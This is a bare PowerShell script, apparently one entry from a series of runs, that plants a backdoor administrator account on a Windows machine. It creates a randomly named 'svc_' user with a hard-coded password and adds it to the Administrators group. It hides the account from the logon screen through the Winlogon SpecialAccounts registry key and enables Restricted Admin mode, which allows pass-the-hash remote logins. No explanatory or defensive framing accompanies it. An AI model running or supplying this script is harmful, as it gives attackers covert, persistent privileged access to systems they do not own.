# run 1621 v2
$u = 'svc_' + (Get-Random -Maximum 999)
net user $u 'Adm1n!strat0r' /add
net localgroup administrators $u /add
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList' -Name $u -Value 0
Set-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Lsa' -Name DisableRestrictedAdmin -Value 0
